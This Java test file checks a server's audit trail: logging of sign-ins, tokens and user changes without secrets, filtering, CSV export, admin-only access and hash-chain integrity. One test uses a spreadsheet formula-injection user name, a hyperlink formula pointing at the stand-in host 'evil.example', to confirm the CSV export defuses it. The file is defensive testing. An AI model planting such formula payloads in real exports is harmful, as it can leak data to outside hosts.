package dev.pushbutton.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pushbutton.testing.Api;
import dev.pushbutton.testing.ServerTest;
import dev.pushbutton.testing.WebSession;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/**
 * The audit trail over real HTTP against the real server: each action lands as an entry with its
 * actor, target and address; it is read back filtered, paged and as CSV, by admins only; and its
 * chain holds. The trail is shared with the other tests of this server, so each test looks only at
 * entries of names it made up.
 */
class AuditTrailTests extends ServerTest {
  private static final String LOOPBACK = "127.0.0.1";
  private static final JsonMapper JSON = JsonMapper.builder().build();

  @Test
  void aSignInAndASignOutOnTheFormAreRecordedWithTheAddress() {
    var person = newUser("viewer");
    WebSession browser = WebSession.signIn(api.base(), person.username(), PASSWORD);
    assertThat(person.api().get("/api/me").status())
        .as("an HTTP Basic request, which is not a sign-in to record")
        .isEqualTo(200);
    HttpResponse<String> out = browser.post("/logout", Map.of());
    assertThat(out.statusCode()).isEqualTo(302);

    List<Map<String, Object>> entries = entries("actor=" + person.username());

    assertThat(entries).extracting(e -> e.get("action")).containsExactly("sign-out", "sign-in");
    assertThat(entries)
        .allSatisfy(entry ->
            assertThat(entry)
                .containsEntry("actor", person.username())
                .containsEntry("target", person.username())
                .containsEntry("address", LOOPBACK));
    assertThat(entries.get(1).get("details")).isEqualTo(Map.of("via", "form"));
    assertThat(entries("action=user.created&limit=500"))
        .filteredOn(e -> person.username().equals(e.get("target")))
        .singleElement()
        .satisfies(created -> assertThat(created).containsEntry("actor", "admin"));
  }

  @Test
  void aFailedSignInIsRecordedUnderTheNameTried() {
    String name = unique("Nobody");
    HttpResponse<String> refused =
        WebSession.anonymous(api.base()).signInAs(" " + name + " ", "wrong");
    assertThat(refused.headers().firstValue("Location"))
        .hasValueSatisfying(l -> assertThat(l).contains("error"));
    Api.Response basic = api.anonymous().as(name, "also wrong").get("/api/me");
    assertThat(basic.status()).isEqualTo(401);

    String tried = name.toLowerCase(Locale.ROOT);
    List<Map<String, Object>> entries = entries("action=sign-in.failed&actor=" + tried);

    assertThat(entries).hasSize(2);
    assertThat(entries)
        .allSatisfy(entry ->
            assertThat(entry)
                .containsEntry("actor", tried)
                .containsEntry("target", tried)
                .containsEntry("address", LOOPBACK));
    assertThat(entries)
        .extracting(e -> e.get("details"))
        .containsExactly(
            Map.of("via", "http-basic", "reason", "Wrong user name or password."),
            Map.of("via", "form", "reason", "Wrong user name or password."));
    assertThat(api.get("/api/audit?limit=500").body()).doesNotContain("also wrong");
  }

  @Test
  void refusalsOfANameLockedAfterFailuresAreNotEachRecorded() {
    String name = unique("locked");
    Api guesser = api.anonymous().as(name, "wrong");
    int locked = 0;
    for (int i = 0; i < 8; i++) {
      if (guesser.get("/api/me").status() == 429) {
        locked++;
      }
    }
    assertThat(locked).as("the throttle locked the name").isPositive();
    assertThat(entries("action=sign-in.failed&actor=" + name))
        .as("each failure that led to the lock, and none of the refusals after it")
        .hasSize(8 - locked);
  }

  @Test
  void theAddressIsTheOneTomcatTakesFromATrustedProxy() {
    String name = unique("proxied");
    Api.Response refused =
        api.anonymous()
            .send(
                HttpRequest.newBuilder(api.uri("/api/me"))
                    .header("Authorization", Api.basicHeader(name, "wrong"))
                    .header("X-Forwarded-For", "203.0.113.9")
                    .build());
    assertThat(refused.status()).isEqualTo(401);

    assertThat(entries("actor=" + name))
        .singleElement()
        .satisfies(entry -> assertThat(entry).containsEntry("address", "203.0.113.9"));
  }

  @Test
  void tokensMadeAndRevokedAreRecordedWithoutTheirText() {
    var person = newUser("operator");
    Api.Response made =
        person.api().post("/api/tokens", Map.of("name", "deploys", "expiresInDays", 7));
    String id = (String) made.json().get("id");
    String secret = (String) made.json().get("token");
    assertThat(person.api().delete("/api/tokens/" + id).status()).isEqualTo(204);

    List<Map<String, Object>> entries = entries("actor=" + person.username());

    assertThat(entries)
        .extracting(e -> e.get("action"))
        .containsExactly("token.revoked", "token.created");
    assertThat(entries)
        .allSatisfy(
            e -> assertThat(e).containsEntry("target", id).containsEntry("address", LOOPBACK));
    assertThat(entries.get(1).get("details"))
        .isEqualTo(
            Map.of(
                "owner",
                person.username(),
                "name",
                "deploys",
                "expiresAt",
                made.json().get("expiresAt")));
    assertThat(entries.get(0).get("details")).isEqualTo(Map.of("owner", person.username()));
    assertThat(csv("format=csv")).doesNotContain(secret, secret.substring(3));
  }

  @Test
  void usersMadeChangedAndRemovedAreRecordedWithoutPasswords() {
    String name = unique("grace");
    String first = "first-password-" + UUID.randomUUID();
    String reset = "reset-password-" + UUID.randomUUID();
    String own = "own-password-" + UUID.randomUUID();
    assertThat(
            api.post(
                    "/api/users",
                    Map.of(
                        "username",
                        name,
                        "password",
                        first,
                        "role",
                        "operator",
                        "groups",
                        List.of("ops")))
                .status())
        .isEqualTo(201);
    assertThat(
            api.put(
                    "/api/users/" + name,
                    Map.of("role", "viewer", "groups", List.of("ops", "support")))
                .status())
        .isEqualTo(200);
    assertThat(api.put("/api/users/" + name, Map.of("password", reset)).status()).isEqualTo(200);
    assertThat(api.put("/api/users/" + name, Map.of("displayName", name)).status())
        .as("nothing changes")
        .isEqualTo(200);
    assertThat(
            api.as(name, reset)
                .put("/api/me/password", Map.of("currentPassword", reset, "newPassword", own))
                .status())
        .isEqualTo(204);
    assertThat(api.delete("/api/users/" + name).status()).isEqualTo(204);

    List<Map<String, Object>> entries =
        entries("limit=500").stream().filter(e -> name.equals(e.get("target"))).toList();

    assertThat(entries)
        .extracting(e -> e.get("actor") + " " + e.get("action") + " " + e.get("details"))
        .containsExactly(
            "admin user.deleted {provider=local, role=viewer}",
            name + " user.changed {password=changed}",
            "admin user.changed {password=reset}",
            "admin user.changed {groups={from=[ops], to=[ops, support]}, role={from=operator, to=viewer}}",
            "admin user.created {displayName="
                + name
                + ", groups=[ops], provider=local, role=operator}");
    assertThat(entries).allSatisfy(e -> assertThat(e).containsEntry("address", LOOPBACK));
    assertThat(csv("format=csv")).doesNotContain(first, reset, own, "$2a$", "{bcrypt}");
  }

  @Test
  void noUserMayPassForTheServer() {
    Api.Response refused =
        api.post("/api/users", Map.of("username", AuditTrail.SERVER, "password", PASSWORD));
    assertThat(refused.status()).isEqualTo(400);
    assertThat(refused.json()).containsEntry("field", "username");
  }

  @Test
  void theCatalogLoadedAtStartIsRecordedOnceWithItsChecksum() throws Exception {
    Path catalog = Path.of("src/test/resources/catalog/test.yml").toAbsolutePath();

    assertThat(entries("action=catalog.loaded"))
        .singleElement()
        .satisfies(entry -> {
          assertThat(entry)
              .containsEntry("actor", "pushbutton")
              .containsEntry("target", catalog.toString())
              .containsEntry("address", null);
          @SuppressWarnings("unchecked")
          var details = (Map<String, Object>) entry.get("details");
          assertThat(details).containsEntry("sha256", sha256(catalog));
          assertThat(details.get("jobs")).isEqualTo(api.get("/api/jobs").jsonList().size());
        });
  }

  @Test
  void entriesAreFilteredAndPagedNewestFirst() {
    var person = newUser("operator");
    List<String> ids = new ArrayList<>();
    for (int i = 0; i < 4; i++) {
      ids.add((String) person.api().post("/api/tokens", Map.of("name", "t" + i)).json().get("id"));
    }
    person.api().delete("/api/tokens/" + ids.get(0));
    String mine = "actor=" + person.username();

    List<Map<String, Object>> all = entries(mine);
    assertThat(all)
        .extracting(e -> e.get("action") + " " + e.get("target"))
        .containsExactly(
            "token.revoked " + ids.get(0),
            "token.created " + ids.get(3),
            "token.created " + ids.get(2),
            "token.created " + ids.get(1),
            "token.created " + ids.get(0));
    assertThat(entries(mine + "&action=token.created")).hasSize(4);

    List<Map<String, Object>> firstPage = entries(mine + "&limit=2");
    assertThat(firstPage).isEqualTo(all.subList(0, 2));
    List<Map<String, Object>> secondPage =
        entries(mine + "&limit=2&before=" + firstPage.getLast().get("id"));
    assertThat(secondPage).isEqualTo(all.subList(2, 4));

    Instant second = at(all.get(3));
    assertThat(entries(mine + "&since=" + second))
        .as("since is inclusive")
        .isEqualTo(all.stream().filter(e -> !at(e).isBefore(second)).toList())
        .contains(all.get(3));
    assertThat(entries(mine + "&until=" + second))
        .as("until is not")
        .isEqualTo(all.stream().filter(e -> at(e).isBefore(second)).toList())
        .doesNotContain(all.get(3));
    assertThat(entries(mine + "&since=2000-01-01&until=2000-01-02")).isEmpty();
    assertThat(entries(mine + "&since=" + encode("2000-01-01T00:00:00+02:00"))).hasSize(5);
    assertThat(entries("limit=" + AuditQuery.MAX_LIMIT))
        .hasSizeLessThanOrEqualTo(AuditQuery.MAX_LIMIT);
    assertThat(entries("")).hasSizeLessThanOrEqualTo(AuditQuery.DEFAULT_LIMIT);
  }

  @Test
  void badFiltersAreRefusedNamingTheField() {
    Map<String, String> refused =
        Map.ofEntries(
            Map.entry("since=yesterday", "since"),
            Map.entry("until=2026-13-01", "until"),
            Map.entry("since=2026-02-01&until=2026-01-01", "until"),
            Map.entry("limit=0", "limit"),
            Map.entry("limit=501", "limit"),
            Map.entry("limit=many", "limit"),
            Map.entry("before=abc", "before"),
            Map.entry("before=0", "before"),
            Map.entry("action=run.deleted", "action"),
            Map.entry("format=xml", "format"));
    refused.forEach((query, field) -> {
      for (String path : List.of("/api/audit?" + query, "/api/audit?format=csv&" + query)) {
        if (path.contains("format=csv&format")) {
          continue;
        }
        Api.Response answer = api.get(path);
        assertThat(answer.status()).as(path).isEqualTo(400);
        assertThat(answer.contentType()).startsWith("application/json");
        assertThat(answer.json()).as(path).containsEntry("field", field).containsKey("error");
      }
    });
    WebSession admin = WebSession.signIn(api.base(), "admin", ADMIN_PASSWORD);
    HttpResponse<String> page = admin.get("/audit?since=yesterday");
    assertThat(page.statusCode()).isEqualTo(400);
    assertThat(page.body())
        .contains("id=\"error-since\"", "&#39;since&#39; must be a date and time");
  }

  @Test
  void theCsvHoldsTheSameEntriesWithFormulasDefused() throws Exception {
    // No colon: HTTP Basic ends the name at the first one.
    String formula = "=hyperlink(\"evil.example\")&a1-" + port;
    assertThat(api.anonymous().as(formula, "wrong").get("/api/me").status()).isEqualTo(401);
    String query = "action=sign-in.failed&actor=" + encode(formula);

    Api.Response asked =
        api.send(
            HttpRequest.newBuilder(api.uri("/api/audit?" + query))
                .header("Accept", "text/csv")
                .build());
    assertThat(asked.status()).isEqualTo(200);
    assertThat(asked.contentType()).startsWith("text/csv");
    assertThat(asked.header("Content-Disposition")).contains("attachment").contains("audit.csv");
    assertThat(api.get("/api/audit?format=csv&" + query).body()).isEqualTo(asked.body());

    List<Map<String, String>> rows = rows(asked.body());
    Map<String, Object> entry = entries(query).getFirst();
    assertThat(rows)
        .singleElement()
        .satisfies(row -> {
          assertThat(row.keySet())
              .containsExactly(
                  "id", "at", "actor", "action", "target", "details", "address", "hash");
          assertThat(row.get("actor")).as("defused").isEqualTo("'" + formula);
          assertThat(row.get("target")).isEqualTo("'" + formula);
          assertThat(row.get("id")).isEqualTo(entry.get("id").toString());
          assertThat(row.get("at")).isEqualTo(entry.get("at"));
          assertThat(row.get("action")).isEqualTo("sign-in.failed");
          assertThat(JSON.readTree(row.get("details")))
              .isEqualTo(JSON.valueToTree(entry.get("details")));
          assertThat(row.get("address")).isEqualTo(LOOPBACK);
          assertThat(row.get("hash")).isEqualTo(entry.get("hash"));
        });

    String everything = csv("format=csv");
    List<Map<String, String>> all = rows(everything);
    assertThat(all.size())
        .as("without a limit, the CSV holds every entry")
        .isEqualTo(((Number) api.get("/api/audit/verify").json().get("entries")).intValue());
    assertThat(rows(csv("format=csv&limit=3"))).hasSize(3);
    Api.Response preferred =
        api.send(
            HttpRequest.newBuilder(api.uri("/api/audit?limit=1"))
                .header("Accept", "text/csv;q=0.5, application/json")
                .build());
    assertThat(preferred.contentType()).startsWith("application/json");
    Api.Response neither =
        api.send(
            HttpRequest.newBuilder(api.uri("/api/audit")).header("Accept", "text/html").build());
    assertThat(neither.status()).isEqualTo(406);
    assertThat(neither.json().get("error").toString()).contains("application/json", "text/csv");
  }

  @Test
  void onlyAdminsReadTheTrail() {
    for (String role : List.of("viewer", "operator")) {
      var person = newUser(role);
      for (String path :
          List.of(
              "/api/audit", "/api/audit?format=csv", "/api/audit/verify", "/api/audit?since=bad")) {
        Api.Response refused = person.api().get(path);
        assertThat(refused.status()).as(role + " " + path).isEqualTo(403);
        assertThat(refused.contentType()).startsWith("application/json");
        assertThat(refused.json()).containsEntry("error", "Only an admin may do this.");
      }
      WebSession browser = WebSession.signIn(api.base(), person.username(), PASSWORD);
      assertThat(browser.get("/audit").statusCode()).isEqualTo(403);
      assertThat(browser.get("/").body()).doesNotContain("href=\"/audit\"");
    }
    WebSession admin = WebSession.signIn(api.base(), "admin", ADMIN_PASSWORD);
    assertThat(admin.get("/").body()).contains("href=\"/audit\"");
    assertThat(api.anonymous().get("/api/audit").status()).isEqualTo(401);
  }

  @Test
  void noRouteChangesOrRemovesAnEntry() {
    for (String method : List.of("POST", "PUT", "PATCH", "DELETE")) {
      for (String path : List.of("/api/audit", "/api/audit/1", "/api/audit/verify")) {
        Api.Response answer =
            api.send(
                HttpRequest.newBuilder(api.uri(path))
                    .method(method, HttpRequest.BodyPublishers.ofString("{}"))
                    .header("Content-Type", "application/json")
                    .build());
        assertThat(answer.status()).as(method + " " + path).isIn(404, 405);
      }
    }
  }

  @Test
  void theChainHoldsAfterAllThisActivity() {
    var person = newUser("operator");
    person.api().post("/api/tokens", Map.of("name", "ci"));
    api.anonymous().as(unique("someone"), "wrong").get("/api/me");

    Map<String, Object> check = api.get("/api/audit/verify").json();

    assertThat(check)
        .containsOnlyKeys("intact", "entries", "lastHash")
        .containsEntry("intact", true);
    Map<String, Object> newest = entries("limit=1").getFirst();
    assertThat(check.get("lastHash")).isEqualTo(newest.get("hash"));
    assertThat(((Number) check.get("entries")).longValue())
        .isEqualTo(((Number) newest.get("id")).longValue());
    WebSession admin = WebSession.signIn(api.base(), "admin", ADMIN_PASSWORD);
    assertThat(admin.get("/audit").body()).containsPattern("Chain intact: \\d+ entries");
  }

  private List<Map<String, Object>> entries(String query) {
    Api.Response answer = api.get("/api/audit?" + query);
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    return answer.jsonList();
  }

  private static Instant at(Map<String, Object> entry) {
    return Instant.parse((String) entry.get("at"));
  }

  private String csv(String query) {
    Api.Response answer = api.get("/api/audit?" + query);
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    return answer.body();
  }

  /** The CSV read back by the same library that wrote it, header first. */
  private static List<Map<String, String>> rows(String csv) {
    try (var rows =
        new CsvMapper()
            .readerForMapOf(String.class)
            .with(CsvSchema.emptySchema().withHeader())
            .<Map<String, String>>readValues(csv)) {
      return rows.readAll();
    }
  }

  private String unique(String prefix) {
    return prefix + "-" + UUID.randomUUID().toString().substring(0, 8);
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private static String sha256(Path file) throws IOException, NoSuchAlgorithmException {
    return HexFormat.of()
        .formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
  }
}
